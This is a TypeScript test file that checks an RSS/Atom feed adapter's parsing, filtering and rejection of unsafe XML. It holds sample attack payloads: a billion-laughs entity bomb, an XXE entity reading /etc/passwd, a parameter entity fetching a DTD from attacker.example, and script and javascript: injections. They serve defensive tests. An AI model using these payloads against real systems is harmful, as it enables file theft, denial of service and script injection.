import { describe, expect, it } from 'vitest';
import { CAPABILITIES } from '../../../model';
import { interpret } from '../../../engine/pipeline';
import { buildHttpRequest } from '../../../engine/request';
import { rssFeed } from './index';

const ctx = { now: Date.parse('2026-01-01T00:00:00Z'), symbolId: () => undefined };
const feed = rssFeed({ id: 'test-feed', name: 'Test Feed', baseUrl: 'https://feed.example', path: '/feed', docs: 'https://feed.example' });
const params = CAPABILITIES.news.params.parse({});
const adapter = feed.capabilities.news;
const run = (body: string, p = params) => (adapter ? interpret(feed, adapter, { status: 200, headers: {}, body }, p, ctx) : undefined);
const rss = (items: string, prolog = '') => `<?xml version="1.0"?>${prolog}<rss version="2.0"><channel><title>T</title>${items}</channel></rss>`;
const item = (title: string, link = 'https://feed.example/a', extra = '') =>
  `<item><title>${title}</title><link>${link}</link><pubDate>Fri, 12 Dec 2025 16:57:28 +0000</pubDate>${extra}</item>`;

describe('rssFeed', () => {
  it('GETs the feed path and asks for XML', () => {
    const spec = adapter?.request(params, ctx);
    if (spec === undefined || typeof spec === 'string') throw new Error('no request');
    const req = buildHttpRequest(feed, spec, undefined);
    expect(req.url).toBe('https://feed.example/feed');
    expect(req.headers.accept).toMatch(/application\/rss\+xml/);
  });

  it('refuses a coin filter it cannot honour', () => {
    expect(adapter?.request(CAPABILITIES.news.params.parse({ symbols: ['BTC'] }), ctx)).toMatch(/cannot filter/);
  });

  it('does not expand a billion-laughs DOCTYPE: the entity reference stays literal and small', () => {
    const lol = Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    const body = rss(item('Laughs &lol9; here'), `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${lol}]>`);
    const r = run(body);
    expect(r).toMatchObject({ ok: true, value: [{ title: 'Laughs &lol9; here' }] });
    expect(JSON.stringify(r).length).toBeLessThan(1000);
  });

  it('never resolves an external entity: the body is refused, nothing is read', () => {
    const body = rss(item('Secret: &xxe;'), '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>');
    const r = run(body);
    expect(r).toMatchObject({ ok: false, kind: 'schema' });
    expect(JSON.stringify(r)).not.toMatch(/root:/);
  });

  it('refuses a parameter entity pointing outside too', () => {
    const body = rss(item('x'), '<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>');
    const r = run(body);
    expect(r?.ok === false || (r?.ok && JSON.stringify(r.value).includes('attacker') === false)).toBe(true);
  });

  it('turns HTML titles and summaries into plain text', () => {
    const body = rss(
      item('<![CDATA[<b>BTC</b> &amp; ETH rally]]>', 'https://feed.example/a?x=1&amp;y=2', '<description><![CDATA[<p>One</p><p>Two&nbsp;&#8217;three&#x2019;</p><script>alert(1)</script>]]></description>'),
    );
    expect(run(body)).toMatchObject({
      ok: true,
      value: [{ title: 'BTC & ETH rally', url: 'https://feed.example/a?x=1&y=2', summary: 'One Two ’three’', symbols: [] }],
    });
  });

  it('skips entries without an http(s) link or a readable date, and honours the limit', () => {
    const body = rss(item('bad link', 'javascript:alert(1)') + '<item><title>no date</title><link>https://feed.example/b</link></item>' + item('ok 1') + item('ok 2') + item('ok 3'));
    const r = run(body, CAPABILITIES.news.params.parse({ limit: 2 }));
    expect(r).toMatchObject({ ok: true, value: [{ title: 'ok 1' }, { title: 'ok 2' }] });
    expect(r?.ok && r.value.length).toBe(2);
  });

  it('reads an empty channel as no news, not an error', () => {
    expect(run(rss(''))).toEqual({ ok: true, value: [] });
  });

  it('reads Atom feeds too', () => {
    const body = `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><entry><id>urn:1</id><title type="html">A &amp;amp; B</title><link rel="alternate" href="https://feed.example/atom/1"/><published>2025-12-12T10:00:00Z</published><summary>S</summary></entry></feed>`;
    expect(run(body)).toMatchObject({ ok: true, value: [{ id: 'urn:1', title: 'A &amp; B', url: 'https://feed.example/atom/1', publishedAt: Date.parse('2025-12-12T10:00:00Z') }] });
  });

  it('refuses HTML error pages and malformed XML', () => {
    expect(run('<html><body>502 Bad Gateway</body></html>')).toMatchObject({ ok: false, kind: 'schema' });
    expect(run('<rss><channel><item><title>x</title></channel>')).toMatchObject({ ok: false, kind: 'schema' });
  });
});
